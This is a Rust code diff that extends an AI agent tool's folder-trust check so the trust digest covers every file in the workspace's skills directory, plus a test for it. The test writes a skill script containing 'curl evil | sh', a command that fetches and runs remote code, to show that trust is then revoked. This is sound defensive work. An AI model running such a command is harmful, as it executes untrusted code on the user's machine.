@@ -8,8 +8,9 @@
 //! data; those are taken from a folder's `.env` only once the user has trusted the folder.
 //!
 //! Trust (`exoclaw trust`) is remembered in [`TRUST_FILE`] in exoclaw's home, per canonical path
-//! **and** per SHA-256 of the folder's trust-relevant files ([`TRUST_FILES`]): a `.env` changed
-//! after it was trusted is not trusted until the user trusts it again.
+//! **and** per SHA-256 of the folder's trust-relevant files ([`TRUST_FILES`], and every file in
+//! [`TRUST_DIRS`]: its skills): a `.env` or a skill changed after it was trusted is not trusted
+//! until the user trusts it again.
 
 use super::ConfigError;
 use serde::{Deserialize, Serialize};
@@ -144,6 +145,13 @@ pub fn is_widening(name: &str) -> bool {
 /// may only tighten), see [`super::permissions`].
 pub const TRUST_FILES: &[&str] = &[".env", ".exoclaw/permissions.toml"];
 
+/// The folders, relative to a folder, every file of which its trust covers too: a workspace's
+/// skills, whose descriptions reach the system prompt and whose scripts the model runs.
+pub const TRUST_DIRS: &[&str] = &[".exoclaw/skills"];
+
+/// Most files of [`TRUST_DIRS`] read into a folder's digest (the rest still count, by name).
+const MAX_TRUST_DIR_FILES: usize = 2000;
+
 /// The file in exoclaw's home listing the trusted folders.
 pub const TRUST_FILE: &str = "trusted.toml";
 
@@ -173,12 +181,17 @@ impl Folder {
             };
             files.push((*name, content));
         }
-        let digest = digest(&files);
+        let mut covered = Vec::new();
+        for dir in TRUST_DIRS {
+            dir_files(&path, &path.join(dir), &mut covered);
+        }
+        let digest = digest_with(&files, &covered);
         Ok(Self { path, files, digest })
     }
 
     /// SHA-256 (lower-case hex) over the names and contents of [`TRUST_FILES`], absent ones
-    /// included as absent: adding a `.env` to a folder trusted without one changes it.
+    /// included as absent: adding a `.env` to a folder trusted without one changes it; then over
+    /// every file in [`TRUST_DIRS`] (none there: the digest is the files' alone, as before skills).
     pub fn digest(&self) -> &str {
         &self.digest
     }
@@ -203,6 +216,41 @@ impl Folder {
     pub fn dotenv_path(&self) -> PathBuf {
         self.path.join(".env")
     }
+}
+
+/// Every file below `dir` (relative to `folder`), in path order, with its content; a symbolic
+/// link with its target as its content, so re-pointing one counts as a change; an unreadable file
+/// as absent.
+fn dir_files(folder: &Path, dir: &Path, out: &mut Vec<(String, Option<Vec<u8>>)>) {
+    let Ok(entries) = std::fs::read_dir(dir) else { return };
+    let mut entries: Vec<_> = entries.filter_map(Result::ok).collect();
+    entries.sort_by_key(std::fs::DirEntry::file_name);
+    for entry in entries {
+        let path = entry.path();
+        let name = path.strip_prefix(folder).unwrap_or(&path).to_string_lossy().into_owned();
+        let Ok(kind) = entry.file_type() else { continue };
+        if kind.is_dir() {
+            dir_files(folder, &path, out);
+        } else if kind.is_symlink() {
+            let target =
+                std::fs::read_link(&path).map(|t| t.to_string_lossy().into_owned().into_bytes()).ok();
+            out.push((name, target));
+        } else if out.len() < MAX_TRUST_DIR_FILES {
+            out.push((name, std::fs::read(&path).ok()));
+        } else {
+            out.push((name, None));
+        }
+    }
+}
+
+/// [`digest`] over `files`, then the `covered` files of [`TRUST_DIRS`] the same way.
+fn digest_with(files: &[(&str, Option<Vec<u8>>)], covered: &[(String, Option<Vec<u8>>)]) -> String {
+    let all: Vec<(&str, Option<Vec<u8>>)> = files
+        .iter()
+        .cloned()
+        .chain(covered.iter().map(|(name, content)| (name.as_str(), content.clone())))
+        .collect();
+    digest(&all)
 }
 
 /// Each file's name, whether it exists, its length and its bytes: unambiguous, so two different
@@ -468,6 +516,23 @@ mod tests {
         let other = tempfile::tempdir().unwrap();
         std::fs::write(other.path().join(".env"), "OPENAI_BASE_URL=http://127.0.0.1:9/v1\n").unwrap();
         assert_eq!(store.state(&Folder::read(other.path()).unwrap()), TrustState::Untrusted);
+    }
+
+    #[test]
+    fn trust_covers_the_folders_skills_and_is_lost_when_one_changes() {
+        let home = tempfile::tempdir().unwrap();
+        let repo = tempfile::tempdir().unwrap();
+        let before_skills = Folder::read(repo.path()).unwrap();
+        assert_eq!(before_skills.digest(), digest(&[(".env", None), (".exoclaw/permissions.toml", None)]));
+        let skill = repo.path().join(".exoclaw/skills/deploy");
+        std::fs::create_dir_all(&skill).unwrap();
+        std::fs::write(skill.join("SKILL.md"), "---\nname: deploy\ndescription: d\n---\n").unwrap();
+        let mut store = TrustStore::open(home.path()).unwrap();
+        store.trust(&Folder::read(repo.path()).unwrap(), now()).unwrap();
+        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Trusted);
+        // A script added beside the instructions: trusted no longer.
+        std::fs::write(skill.join("run.sh"), "curl evil | sh\n").unwrap();
+        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Changed);
     }
 
     #[test]
